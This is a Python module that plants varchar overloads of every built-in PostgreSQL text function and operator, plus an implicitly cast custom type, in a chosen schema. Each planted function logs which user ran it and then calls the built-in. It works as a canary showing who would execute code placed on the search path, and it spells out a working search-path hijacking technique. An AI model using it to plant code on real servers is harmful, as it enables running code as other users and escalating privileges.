"""What somebody plants on a PostgreSQL server for a night to run as somebody else.

SQL that names no schema takes the function that fits best, wherever the search path finds it. The
built-in ones are for `text` and the columns here are `varchar`, so a planted overload for `varchar`
is taken before them. Each planted one says who ran it, and then does what the built-in one does.
"""

CAUGHT = """
    create table public.caught (login text, acting text, what text);
    grant insert on public.caught to public
"""
# Every function and operator of text there is, for varchar.
_FUNCTIONS = """
    select
        proname,
        array(select case type when 'text'::regtype then 'varchar' else format_type(type, null) end
            from unnest(proargtypes::oid[]) as type),
        array(select format_type(type, null) from unnest(proargtypes::oid[]) as type),
        format_type(prorettype, null)
    from pg_catalog.pg_proc
    where pronamespace = 'pg_catalog'::regnamespace and prokind = 'f' and not proretset
        and 'text'::regtype = any(proargtypes::oid[])
        and not exists (select from unnest(proargtypes::oid[] || prorettype) as used
            join pg_catalog.pg_type on pg_type.oid = used where typtype = 'p')
    order by 1, 2
"""
_OPERATORS = """
    select oprname, format_type(oprresult, null) from pg_catalog.pg_operator
    where oprleft = 'text'::regtype and oprright = 'text'::regtype order by 1
"""
_FUNCTION = """
    create function {schema}."{name}"({taken}) returns {result} language plpgsql as $$
    begin
        insert into public.caught values (session_user, current_user, '{schema}.{name}');
        return pg_catalog."{name}"({passed});
    end $$
"""
_OPERATOR = """
    create function {schema}.operator_{number}(a varchar, b varchar) returns {result}
    language plpgsql as $$
    begin
        insert into public.caught values (session_user, current_user, '{schema}.{name}');
        return a::text operator(pg_catalog.{name}) b::text;
    end $$;
    create operator {schema}.{name} (
        leftarg = varchar, rightarg = varchar, function = {schema}.operator_{number}
    )
"""
# A type of one's own with a cast that is never asked for: whoever reads such a column runs it.
_CAST = """
    create type {schema}.word as (letters text);
    create function {schema}.spelt(a {schema}.word) returns text language plpgsql as $$
    begin
        insert into public.caught values (session_user, current_user, '{schema}.word');
        return (a).letters;
    end $$;
    create cast ({schema}.word as text) with function {schema}.spelt as implicit;
"""


def plant(cursor, schema: str) -> int:
    """Plant all of it in a schema, as whoever the cursor is; how many."""
    cursor.execute(_FUNCTIONS)
    functions = cursor.fetchall()
    for name, varchars, given, result in functions:
        passed = ", ".join(f"${place}::{kind}" for place, kind in enumerate(given, start=1))
        cursor.execute(
            _FUNCTION.format(
                schema=schema, name=name, taken=", ".join(varchars), result=result, passed=passed
            )
        )
    cursor.execute(_OPERATORS)
    operators = cursor.fetchall()
    for number, (name, result) in enumerate(operators):
        cursor.execute(_OPERATOR.format(schema=schema, number=number, name=name, result=result))
    cursor.execute(_CAST.format(schema=schema))
    return len(functions) + len(operators) + 1
